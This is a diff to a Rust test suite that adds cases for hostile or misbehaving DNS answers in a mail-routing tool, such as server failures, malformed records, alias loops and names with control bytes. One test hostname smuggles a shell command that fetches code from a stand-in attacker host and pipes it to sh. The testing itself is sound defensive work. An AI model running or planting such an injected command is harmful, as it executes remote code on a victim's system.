@@ -1008,10 +1008,90 @@ fn host_routes() -> Vec<(&'static str, Route)> {
         r.family = family;
         out.push((name, r));
     }
+    out.extend(hostile_routes());
     let mut filtered = route(d, Lookup::Mx, vec![mx1()]);
     filtered.family = AddressFamily::V6;
     filtered.hosts[0].filtered = filtered.hosts[0].addresses.drain(..).collect();
     out.push(("filtered", filtered));
+    out
+}
+
+/// What a misbehaving DNS server or hostile DNS data might say (issue 14): every error
+/// kind, for the MX lookup and for a mail host's address, with names not fit to paste.
+fn hostile_routes() -> Vec<(&'static str, Route)> {
+    use crate::dns::AliasEnd;
+    let d = DOMAIN;
+    let mx9 = "mx9.contoso.test";
+    let odd = "x';curl evil.example|sh;'.test";
+    let errors: Vec<(&'static str, DnsError)> = vec![
+        (
+            "servfail",
+            DnsError::Rcode {
+                name: mx9.into(),
+                rcode: "SERVFAIL (server failure)".into(),
+            },
+        ),
+        (
+            "refused",
+            DnsError::Rcode {
+                name: odd.into(),
+                rcode: "REFUSED (the server refuses to answer)".into(),
+            },
+        ),
+        (
+            "no-answer",
+            DnsError::NoAnswer {
+                name: mx9.into(),
+                seen: "the DNS server at 127.0.0.1:5353 answered with a wrong transaction ID"
+                    .into(),
+            },
+        ),
+        (
+            "malformed",
+            DnsError::Malformed {
+                name: odd.into(),
+                reason: "incorrect rdata length".into(),
+            },
+        ),
+        (
+            "foreign",
+            DnsError::Foreign {
+                name: mx9.into(),
+                records: "elsewhere.test. MX".into(),
+            },
+        ),
+        (
+            "invalid-name",
+            DnsError::InvalidName {
+                name: "mx\\x1b[31m.contoso.test".into(),
+                reason: "a control byte in a label".into(),
+            },
+        ),
+    ];
+    let mut out: Vec<(&'static str, Route)> = Vec::new();
+    for (name, e) in errors {
+        out.push((name, route(d, Lookup::Failed(e.clone()), vec![])));
+        out.push((
+            name,
+            route(d, Lookup::Mx, vec![mail_host(mx9, Some(10), Err(e))]),
+        ));
+    }
+    for end in [
+        AliasEnd::Loop,
+        AliasEnd::TooLong,
+        AliasEnd::Missing,
+        AliasEnd::NoAddress,
+    ] {
+        let e = DnsError::Alias {
+            name: mx9.into(),
+            chain: vec![mx9.into(), odd.into(), mx9.into()],
+            end,
+        };
+        out.push((
+            "alias",
+            route(d, Lookup::Mx, vec![mail_host(mx9, Some(10), Err(e))]),
+        ));
+    }
     out
 }
 
@@ -1174,7 +1254,7 @@ fn a_fix_is_written_for_the_server_that_answered() {
             "exchange" => [Family::Exchange, Family::ExchangeOnline].contains(&family),
             "postfix" => family == Family::Postfix,
             "cisco" => family == Family::Cisco,
-            "generic" | "blocklist" => family == Family::Generic,
+            "generic" | "blocklist" | "dns" => family == Family::Generic,
             _ => false,
         };
         assert!(
